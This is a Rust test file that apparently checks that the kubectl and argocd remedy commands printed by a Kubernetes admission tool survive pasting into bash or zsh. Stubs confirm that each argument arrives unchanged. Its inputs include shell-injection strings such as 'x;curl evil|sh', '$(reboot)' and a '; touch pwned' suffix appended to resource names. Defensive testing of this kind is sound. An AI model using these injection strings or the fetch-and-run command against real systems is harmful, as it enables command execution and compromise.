//! Every printed command can be pasted: a shell reads the words that were meant, and nothing else runs.

use std::{
    collections::BTreeSet,
    fs,
    os::unix::fs::PermissionsExt as _,
    path::Path,
    process::{Command as Process, Output},
};

use crate::case::{expand, policy_of, request_of};
use crate::support::{decide, files, review, snapshot};
use cascade_guard_core::{admission::Response, remedy::Command};
use jiff::Timestamp;
use serde_json::Value;
use tempfile::TempDir;

/// Programs that remedies name. Each prints the words it was called with, one between two NULs.
const PROGRAMS: &[&str] = &["argocd", "cascade-guard", "kubectl", "xargs"];

/// A folder that is all of PATH.
fn stubs() -> TempDir {
    let folder = TempDir::new().unwrap();
    for program in PROGRAMS {
        let file = folder.path().join(program);
        fs::write(&file, "#!/bin/bash\nprintf '%s\\0' \"${0##*/}\" \"$@\"\n").unwrap();
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
    }
    folder
}

/// The shells that are here: bash always, zsh where it is installed.
fn shells() -> Vec<&'static str> {
    ["/bin/bash", "/bin/zsh", "/usr/bin/zsh"].into_iter().filter(|shell| Path::new(shell).exists()).collect()
}

fn run(shell: &str, path: &Path, arguments: &[&str]) -> Output {
    Process::new(shell).args(arguments).env_clear().env("PATH", path).current_dir(path).output().unwrap()
}

/// What a stub was called with.
fn words(output: &Output) -> Vec<String> {
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    text.strip_suffix('\0').unwrap_or(&text).split('\0').map(str::to_owned).collect()
}

#[test]
fn words_of_any_kind_arrive_as_they_are() {
    let hostile = [
        "x;curl evil|sh",
        "$(reboot)",
        "`id`",
        "a b",
        "it's",
        "\"quoted\"",
        "back\\slash",
        "!history",
        "^caret^x",
        "~root",
        "=ls",
        "a=~b",
        "{a,b}",
        "*",
        "?",
        "[a]",
        "#hash",
        "-n",
        "",
        "new\nline",
        "tab\there",
        "\u{1b}[2J",
        "é’😀",
        "%s",
        "&",
        ">file",
        "<in",
        "$HOME",
        "'",
        "\\'",
        "a\u{85}b",
        "!'\n",
        "k=v",
        "(sub)",
        "system:node:a",
    ];
    let stubs = stubs();
    let command = Command::new("argocd").words(hostile);
    assert!(!command.as_str().chars().any(char::is_control), "{command}");
    for shell in shells() {
        let output = run(shell, stubs.path(), &["-c", command.as_str()]);
        assert!(output.status.success() && output.stderr.is_empty(), "{shell}: {command}: {output:?}");
        let mut wanted = vec!["argocd"];
        wanted.extend(hostile);
        assert_eq!(words(&output), wanted, "{shell}: {command}");
    }
}

#[test]
fn every_printed_command_is_read_as_it_was_meant() {
    let stubs = stubs();
    let before = fs::read_dir(stubs.path()).unwrap().count();
    let commands = every_command();
    assert!(commands.len() > 30, "only {} commands", commands.len());
    assert!(commands.iter().any(|command| command.contains("touch pwned")), "no name was hostile");
    for command in &commands {
        for shell in shells() {
            let parsed = run(shell, stubs.path(), &["-n", "-c", command]);
            assert!(parsed.status.success() && parsed.stderr.is_empty(), "{shell}: {command}: {parsed:?}");
            // What another command fills in, or is fed, has no words of its own to compare.
            let output = run(shell, stubs.path(), &["-c", command]);
            assert!(output.status.success(), "{shell}: {command}: {output:?}");
            if !command.contains("\"$(") && !command.contains(" | ") {
                assert_eq!(words(&output), shlex::split(command).unwrap(), "{shell}: {command}");
            }
        }
    }
    assert_eq!(fs::read_dir(stubs.path()).unwrap().count(), before, "a pasted command wrote a file");
}

/// Every command of every answer to every case, as it is and with names that a shell would trip over.
fn every_command() -> BTreeSet<String> {
    let mut commands = BTreeSet::new();
    for file in files("cases", ".yaml") {
        let mut case: Value = serde_saphyr::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
        expand(&mut case);
        let mut renamed = case.clone();
        for name in names_to_change(&case) {
            rename(&mut renamed, &name);
        }
        for case in [case, renamed] {
            collect(&case, &mut commands);
        }
    }
    commands
}

fn collect(case: &Value, commands: &mut BTreeSet<String>) {
    let world = snapshot(case["cluster"].as_array().unwrap());
    let policy = policy_of(case);
    let inventory = world.inventory(&policy, (1, 2));
    let now: Timestamp = case["now"].as_str().unwrap().parse().unwrap();
    for request in case["requests"].as_array().unwrap() {
        let body = request_of(request);
        let decision = decide(&body, &world, &inventory, &policy, now);
        let remedies = decision.outcomes.iter().flat_map(|outcome| &outcome.finding.remedies);
        let printed: Vec<String> = remedies.flat_map(|remedy| &remedy.commands).map(ToString::to_string).collect();
        shown_whole(&review(&body, &world, &inventory, &policy, now), &printed);
        commands.extend(printed);
    }
}

/// Whatever stands four spaces in is a whole command, and no command stands elsewhere.
fn shown_whole(response: &Response, printed: &[String]) {
    let Some((_, ways)) = response.message.split_once("\nWhat to do:\n") else { return };
    for line in ways.lines() {
        match line.strip_prefix("    ") {
            Some(command) => assert!(printed.iter().any(|known| known == command), "{line}\n{}", response.message),
            None => assert!(line.starts_with("- "), "{line}\n{}", response.message),
        }
    }
    assert!(response.message.chars().count() <= 1000, "{}", response.message);
}

fn names_to_change(case: &Value) -> Vec<String> {
    let objects = case["cluster"].as_array().unwrap().iter();
    objects
        .filter(|object| {
            ["ServiceAccount", "Namespace"].iter().any(|kind| object["kind"] == *kind)
                || object["apiVersion"].as_str().is_some_and(|version| version.starts_with("rbac."))
        })
        .filter_map(|object| object["metadata"]["name"].as_str().map(str::to_owned))
        .collect()
}

/// Gives an object another name wherever it is named: alone, or at the end of a marker.
fn rename(value: &mut Value, name: &str) {
    match value {
        Value::String(text) if text == name || text.ends_with(&format!("/{name}")) => {
            text.push_str("; touch pwned | sh $(touch pwned) 'q\" #");
        }
        Value::Array(items) => items.iter_mut().for_each(|item| rename(item, name)),
        Value::Object(fields) => fields.values_mut().for_each(|field| rename(field, name)),
        _ => {}
    }
}
